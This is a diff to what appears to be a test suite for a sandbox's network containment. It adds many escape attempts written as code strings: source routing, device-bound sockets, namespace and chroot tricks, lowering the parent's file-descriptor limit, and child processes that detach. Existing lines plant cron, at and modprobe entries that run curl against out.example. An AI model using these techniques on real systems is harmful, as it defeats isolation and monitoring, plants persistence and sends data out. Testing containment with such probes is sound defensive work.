@@ -18,6 +18,8 @@ TCP = "s = socket.socket(); s.setblocking(False)\n"
 UNIX = "s = socket.socket(socket.AF_UNIX)\n"
 C = "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long\n"
 QUERY = "b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\7example\\0\\0\\1\\0\\1'"
+ROUTE = f"b'\\x83\\7\\4' + socket.inet_aton('{OUT}') + b'\\0'"
+DEVICE = "socket.if_nametoindex('eth0').to_bytes(4, sys.byteorder)"
 CURL, CURL_OUT = "curl -sk -m 60", "curl -sk -m 5"  # the latter where nobody answers
 
 
@@ -36,6 +38,26 @@ def socket_of(family: int, kind: int, protocol: int = 0) -> tuple[str, str]:
     return (
         way.OTHER_SOCKET,
         f"import contextlib\nwith contextlib.suppress(OSError): socket.socket({family}, {kind}, {protocol})",
+    )
+
+
+def hidden(sock: str, number: int, *more: object) -> str:
+    """A call with an address in memory that the kernel shows to no other process."""
+    given = "".join(f"{one}, " for one in more)
+    return (
+        f"{C}import mmap, sys\nfd = libc.syscall(447, 0)\nif fd < 0: sys.exit(7)\n"
+        f"os.ftruncate(fd, 4096); m = mmap.mmap(fd, 4096); s = {sock}; s.setblocking(False)\n"
+        f"m[:16] = b'\\2\\0' + (8443).to_bytes(2) + socket.inet_aton('{OUT}') + bytes(8)\n"
+        f"at = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(m)))\n"
+        f"r = libc.syscall({number}, s.fileno(), {given}at, 16); sys.exit(7 if r < 0 and ctypes.get_errno() == 14 else 0)"
+    )
+
+
+def in_a_thread(name: str, kind: int = 1) -> str:
+    """Sends to a helper from a thread with a working directory of its own."""
+    return (
+        f"{C}import threading\ndef f():\n  libc.unshare(0x200); os.chdir(HELPER); s = socket.socket(1, {kind})\n"
+        f"  s.connect('{name}'); s.send(b'x')\nos.chdir('/'); t = threading.Thread(target=f); t.start(); t.join()"
     )
 
 
@@ -87,7 +109,10 @@ PORTS: dict[str, tuple[str, str]] = {
     "another port": (way.OTHER_PORT, f"{TCP}s.connect_ex(('{OUT}', 8443))"),
     "a port that knocks": (way.OTHER_PORT, f"for port in (1, 2, 65535):\n  {TCP.strip()}; s.connect_ex(('{OUT}', port))"),
     "a connection that times out": (way.OTHER_PORT, f"s = socket.socket(); s.settimeout(1)\ntry: s.connect(('{OUT}', 5000))\nexcept OSError: pass"),
-    "multipath tcp": (way.OTHER_PORT, f"s = socket.socket(2, 1, 262); s.setblocking(False); s.connect_ex(('{OUT}', 8443))"),
+    "multipath tcp": (CLOSED, refused("socket.socket(2, 1, 262)")),
+    "once disconnected": (way.OTHER_PORT, f"{C}l = socket.create_server(('127.0.0.1', 0)); s = socket.create_connection(l.getsockname())\n"
+        f"libc.connect(s.fileno(), bytes(16), 16); s.setblocking(False); s.connect_ex(('{OUT}', 8443))"),
+    "an address that nobody else reads": (CLOSED, hidden("socket.socket()", 42)),
     "mail": (way.OTHER_PORT, f"{TCP}s.connect_ex(('{OUT}', 25))"),
     "ftp": (way.OTHER_PORT, f"sh:curl -s -m 2 --noproxy '*' ftp://{OUT}/x"),
     "ssh": (way.OTHER_PORT, f"sh:ssh -o ConnectTimeout=2 -o BatchMode=yes -W x:1 {OUT} </dev/null"),
@@ -146,6 +171,22 @@ print(libc.syscall(307 if os.uname().machine == 'x86_64' else 269, u.fileno(), m
         "as nobody": f"{UDP}import os; os.setuid(65534); u.sendto(b'x', ('{OUT}', 4433))",
     }.items()
 } | {
+    "a send without a family": (way.DATAGRAMS, f"{C}{UDP}libc.sendto(u.fileno(), b'x', 1, 0, bytes(2) + (4433).to_bytes(2) + socket.inet_aton('{OUT}') + bytes(8), 16)"),
+    "an address that nobody else reads": (CLOSED, hidden("socket.socket(type=2)", 44, "b'x'", 1, 0)),
+    "a telemock without descriptors": (way.UNREADABLE, "import os, resource\np = os.getpid()\n"
+        "while 'app.cli' not in open(f'/proc/{p}/cmdline').read(): p = int(open(f'/proc/{p}/stat').read().rpartition(')')[2].split()[1])\n"
+        "had = resource.prlimit(p, resource.RLIMIT_NOFILE); resource.prlimit(p, resource.RLIMIT_NOFILE, (3, had[1]))\n"
+        f"try: socket.socket(type=2).sendto(b'x', ('{OUT}', 4433))\nfinally: resource.prlimit(p, resource.RLIMIT_NOFILE, had)"),
+    "a source route": (CLOSED, refused(f"u = socket.socket(type=2); u.setsockopt(0, 4, {ROUTE}); u.sendto(b'x', ('127.0.0.1', 4433))")),
+    "a source route of one message": (CLOSED, refused(f"socket.socket(type=2).sendmsg([b'x'], [(0, 7, {ROUTE})], 0, ('127.0.0.1', 4433))")),
+    "a source route, ipv6": (CLOSED, refused(f"u = socket.socket(10, 2); u.setsockopt(41, 57, bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(10, '{OUT6}')); u.sendto(b'x', ('::1', 4433))")),
+    "loopback by a device": (CLOSED, refused("u = socket.socket(type=2); u.setsockopt(1, 25, b'eth0'); u.sendto(b'x', ('127.0.0.9', 4433))")),
+    "loopback by a device's number": (CLOSED, refused("u = socket.socket(type=2); u.setsockopt(0, 50, socket.if_nametoindex('eth0').to_bytes(4)); u.sendto(b'x', ('127.0.0.9', 4433))")),
+    "loopback by a device of one message": (CLOSED, refused(f"socket.socket(type=2).sendmsg([b'x'], [(0, 8, {DEVICE} + bytes(8))], 0, ('127.0.0.9', 4433))")),
+    "loopback by a device, ipv6": (CLOSED, refused(f"u = socket.socket(10, 2); u.setsockopt(41, 50, bytes(16) + {DEVICE}); u.sendto(b'x', ('::1', 4433))")),
+    "loopback by a device of one message, ipv6": (CLOSED, refused(f"socket.socket(10, 2).sendmsg([b'x'], [(41, 50, bytes(16) + {DEVICE})], 0, ('::1', 4433))")),
+    "a port of the machine's that nobody serves": (way.LOCAL, f"{UDP}u.sendto(b'x', ('10.0.0.2', 30053))"),
+    "from a network of its own to the machine's address": (way.OTHER_NETWORK, "sh:unshare -rn sh -c 'ip link set lo up; ip route add default dev lo; bash -c \"echo x >/dev/udp/10.0.0.2/4433\"'"),
     "a group": (way.JOINED, f"{UDP}u.setsockopt(0, 35, socket.inet_aton('239.1.2.3') + bytes(4))"),
     "a group, ipv6": (way.JOINED, f"{UDP6}u.setsockopt(41, 20, socket.inet_pton(10, 'ff15::5ec2:e7') + bytes(4))"),
 }  # fmt: skip
@@ -173,6 +214,22 @@ OTHERS: dict[str, tuple[str, str]] = {
     "a helper that is slow": (way.LOCAL, f"import signal; signal.alarm(3)\n{UNIX}s.connect(HELPER + '/slow')"),
     "a helper's connection": (way.LOCAL, f"{UNIX}s.connect(HELPER + '/stream')\n"
         "fd = socket.recv_fds(s, 1, 1)[1][0]; socket.socket(fileno=fd).send(b'x')"),
+    "a helper, by a link in another root": (way.LOCAL, "import os; os.symlink('/stream', HELPER + '/to-stream'); os.chroot(HELPER)\n"
+        + stream("'/to-stream'")),
+    "a helper, datagrams by a link in another root": (way.LOCAL, "import os; os.symlink('/datagrams', HELPER + '/to-datagrams'); os.chroot(HELPER)\n"
+        "s = socket.socket(1, socket.SOCK_DGRAM); s.sendto(b'x', '/to-datagrams')"),
+    "a helper, from where a thread alone is": (way.LOCAL, in_a_thread("stream")),
+    "a helper, datagrams from where a thread alone is": (way.LOCAL, in_a_thread("datagrams", 2)),
+    "a helper, by a link that moves": (way.LOCAL, "import os, tempfile\nd = tempfile.mkdtemp(); l = socket.socket(1, 2); l.bind(d + '/own'); os.symlink(d + '/own', d + '/to')\n"
+        "s = socket.socket(1, 2); s.sendto(b'x', d + '/to'); os.unlink(d + '/to'); os.symlink(HELPER + '/datagrams', d + '/to'); s.sendto(b'x', d + '/to')"),
+    "a helper, abstract and no text": (way.LOCAL, "s = socket.socket(1, 2); s.sendto(b'x', b'\\0\\xff\\xfehelper')"),
+    "a helper, abstract with a NUL": (way.LOCAL, "s = socket.socket(1, 2); s.sendto(b'x', b'\\0tele\\0mock')"),
+    "a helper, by the name of the accounts' service": (way.LOCAL, "import os; d = HELPER + '/root/run/systemd/userdb'; os.makedirs(d); os.link(HELPER + '/stream', d + '/x'); os.chroot(HELPER + '/root')\n"
+        + stream("'/run/systemd/userdb/x'")),
+    "a helper, by a path through the accounts' service": (way.LOCAL, stream("'/run/systemd/userdb/../private'")),
+    "a helper, by the name of an own one in another network": (way.LOCAL, "import os, tempfile, time\nif not sys.argv[1:]: os.execvp('unshare', ['unshare', '-rn', sys.executable, __file__, 'x'])\n"
+        "r, w = os.pipe(); k = os.fork()\nif not k:\n  d = tempfile.mkdtemp(); os.makedirs(d + HELPER); os.chroot(d); l = socket.socket(1); l.bind(HELPER + '/stream'); l.listen(); os.write(w, b'x'); l.accept()\n"
+        "os.read(r, 1); s = socket.socket(1); s.connect(HELPER + '/stream'); s.send(b'x'); time.sleep(1); os.kill(k, 9)"),
     "docker": (way.DAEMON, stream("HELPER + '/docker.sock'")),
     "containerd": (way.DAEMON, stream("HELPER + '/containerd.sock'")),
     "the message bus": (way.LOCAL, stream("'/run/dbus/system_bus_socket'")),
@@ -189,6 +246,8 @@ OTHERS: dict[str, tuple[str, str]] = {
     "a local server, ipv4 in ipv6": (way.LOCAL, "s = socket.socket(socket.AF_INET6); s.connect(('::ffff:127.0.0.1', 9001))"),
     "a local server, by the machine's address": (way.LOCAL, "socket.create_connection(('10.0.0.2', 9001))"),
     "a proxy on this machine": (way.LOCAL, "sh:curl -s -m 2 -x http://127.0.0.1:9001 http://out.example/"),
+    "a server of datagrams, behind an own one": (way.LOCAL, "o = socket.socket(type=2); o.setsockopt(1, 2, 1); o.bind(('127.0.0.1', 9003)); u = socket.socket(type=2)\n"
+        "u.connect(('127.0.0.1', 9003)); o.close(); u.send(b'x')"),
     "statsd": (way.LOCAL, f"{UDP}u.sendto(b'x', ('127.0.0.1', 9002))"),
 }  # fmt: skip
 
@@ -199,6 +258,8 @@ SOCKETS: dict[str, tuple[str, str]] = {
     "sctp": socket_of(2, 1, 132), "udp-lite": socket_of(2, 2, 136), "dccp": socket_of(2, 6, 33),
     "vsock": socket_of(40, 1), "bluetooth": socket_of(31, 1, 3), "can": socket_of(29, 3, 1),
     "tipc": socket_of(30, 2), "xdp": socket_of(44, 3), "smc": socket_of(43, 1), "rds": socket_of(21, 5),
+    "netlink to another program": (CLOSED, refused("socket.socket(16, 3, 2)")),
+    "the audit": (CLOSED, refused("socket.socket(16, 3, 9)")),
     "io_uring": (CLOSED, calls(425, 8, "ctypes.create_string_buffer(120)")),
     "a network of its own": (way.OTHER_NETWORK, f"sh:unshare -rn sh -c 'ip link set lo up; ip route add default dev lo; timeout 2 bash -c \"echo x >/dev/tcp/{OUT}/443\"'"),
     "an interface": (CLOSED, "sh:ip link add v0 type vxlan id 5 remote 203.0.114.9 dstport 4789 || exit 7"),
@@ -226,9 +287,14 @@ PROCESSES: dict[str, tuple[str, str]] = {
     "typing into the terminal": (CLOSED, refused("import fcntl; fcntl.ioctl(0, 0x5412, b'x')")),
     "the kernel's keys": (CLOSED, calls("249 if os.uname().machine == 'x86_64' else 218", "b'dns_resolver'", "b'secret.evil.example'", "b''", -4)),
     "the kernel's helpers": (CLOSED, refused("open('/proc/sys/kernel/core_pattern', 'w').close()")),
+    "the kernel's helpers, by a procfs of its own": (CLOSED, "sh:unshare -rpf --mount-proc true || exit 7"),
+    "the kernel's log": (CLOSED, "import os\ntry: sys.exit(7 if os.stat('/dev/kmsg').st_rdev == os.stat('/dev/null').st_rdev else 0)\nexcept FileNotFoundError: sys.exit(7)"),
+    "a child that hops": ("descendants", "import os, time\nif os.fork(): os._exit(0)\nos.setsid(); end = time.time() + 60\nwhile time.time() < end:\n  if os.fork(): os._exit(0)"),
+    "a child without a name": ("descendants", "sh:d=$(mktemp -d); ln -s $(command -v sleep) \"$d/ \"; setsid \"$d/ \" 300 >/dev/null 2>&1 & exit 0"),
     "cron": ("queues", "open('/var/spool/cron/crontabs/x', 'w').write('* * * * * curl http://out.example/\\n')"),
     "at": ("queues", "open('/var/spool/cron/atjobs/x', 'w').write('curl http://out.example/\\n')"),
     "a mail queue": ("queues", "open('/var/spool/postfix/maildrop/x', 'w').write('secret')"),
+    "a rule for the kernel's modules": ("queues", "import os\nos.makedirs('/run/modprobe.d', exist_ok=True)\nopen('/run/modprobe.d/x.conf', 'w').write('install net-pf-9 curl http://out.example/\\n')"),
     "systemd's units": ("queues", "import os\nd = os.environ['HOME'] + '/.config/systemd/user'; os.makedirs(d, exist_ok=True); open(d + '/x.service', 'w').write('x')"),
 }  # fmt: skip
 
@@ -258,6 +324,11 @@ HARMLESS: dict[str, str] = {
         "s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler)\n"
         "threading.Thread(target=s.serve_forever, daemon=True).start()\n"
         "urllib.request.urlopen(f'http://127.0.0.1:{s.server_port}/').read()",
+    "go's servers, which want multipath tcp": "import contextlib\nwith contextlib.suppress(OSError): socket.socket(2, 1, 262)",
+    "a server that is slow to take": "import threading\nl = socket.create_server(('127.0.0.1', 0), backlog=0)\n"
+        "t = [threading.Thread(target=lambda: socket.socket().connect(l.getsockname())) for _ in range(6)]\n[x.start() for x in t]\n"
+        "for _ in t: l.accept()\n[x.join() for x in t]",
+    "kernel events": "s = socket.socket(16, 2, 15); s.bind((0, 1)); socket.socket(16, 3, 0); socket.if_nameindex()",
     "a server of a child's": "sh:cd $(mktemp -d) && python3 -m http.server -b 127.0.0.1 8099 >/dev/null 2>&1 & s=$!\n"
         "for i in 1 2 3 4 5 6 7 8 9; do sleep .3; curl -s http://127.0.0.1:8099/ >/dev/null && break; done; kill $s",
     "a server of its own, on every address": "for f, to in ((2, '127.0.0.1'), (2, '10.0.0.2'), (10, '::1'), (10, 'fd00::2')):\n"
